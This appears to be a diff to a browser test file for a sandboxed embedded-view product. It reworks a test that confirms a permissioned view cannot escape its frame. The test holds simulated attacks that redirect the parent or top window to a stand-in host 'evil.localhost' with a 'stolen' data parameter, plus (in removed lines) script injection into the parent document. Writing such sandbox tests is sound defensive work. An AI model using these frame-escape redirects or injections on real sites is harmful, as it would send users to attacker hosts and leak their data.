@@ -26,7 +26,17 @@ ask("ui/initialize", { protocolVersion: "2026-01-26", appInfo: { name: "x", vers
 </script>"""
 """A view that is taller than its frame, with a table of contents."""
 
-INNER = (0, 0)
+INNER = None
+PROXY = """(() => {
+  let found = parent;
+  try {
+    while (found.parent.document) found = found.parent;
+  } catch {
+    // the next one has another origin
+  }
+  return found;
+})()"""
+"""The outermost window that a view with a permission can touch: its proxy's."""
 STATE = "() => document.querySelector('mcp-app').state"
 ERROR = "() => document.querySelector('mcp-app').error?.code ?? ''"
 
@@ -99,12 +109,12 @@ def test_E3_a_view_with_a_permission_is_shown_in_a_page_that_keeps_its_proxy(
 ) -> None:
     page = browser.open(product.page(product.embed("shown.camera", {})))
     page.until(f"() => ({STATE})() === 'ready'")
-    inside = (0, 0, 0)
-    assert re.match(r"http://shown-\w+\.localhost:", page.until("() => self.origin", frame=inside))
-    for target in ("parent", "parent.parent", "top"):
-        away = f"{target}.location = 'http://evil.localhost/?d=stolen'"
-        page.run(f"() => {{ try {{ {away} }} catch {{}} }}", frame=inside)
-        code = "const code = parent.document.createElement('script'); parent.document.body.append(code);"
-        page.run(f"(away) => {{ {code} code.append(away); }}", f"try {{ {away} }} catch {{}}", frame=inside)
-    assert page.until("() => parent.document.title", frame=inside) == "Sandbox"
+    assert re.match(
+        r"http://shown-\w+\.localhost:", page.until("() => self.origin !== 'null' && self.origin", frame=INNER)
+    )
+    # What code in the proxy's page can do is tried by the attacks `permission-then-away`, with a control.
+    for target in (".parent", ".top"):
+        away = f"{PROXY}{target}.location = 'http://evil.localhost/?d=stolen'"
+        page.run(f"() => {{ try {{ {away} }} catch {{}} }}", frame=INNER)
+    assert page.until(f"() => {PROXY}.document.title", frame=INNER) == "Sandbox"
     assert page.run(STATE) == "ready"
